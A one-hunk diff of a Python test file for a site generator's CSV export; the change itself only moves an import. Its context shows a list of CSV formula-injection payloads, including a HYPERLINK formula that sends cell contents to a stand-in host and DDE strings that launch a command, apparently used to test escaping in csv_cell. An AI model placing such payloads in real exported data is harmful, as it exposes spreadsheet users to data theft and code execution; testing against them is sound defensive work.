@@ -9,7 +9,7 @@ import re
 import pytest
 from corpus_site import FILES, write
 
-from sitegen.cli import main
+from sitegen.cli.main import main
 from sitegen.text import csv_cell
 
 PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
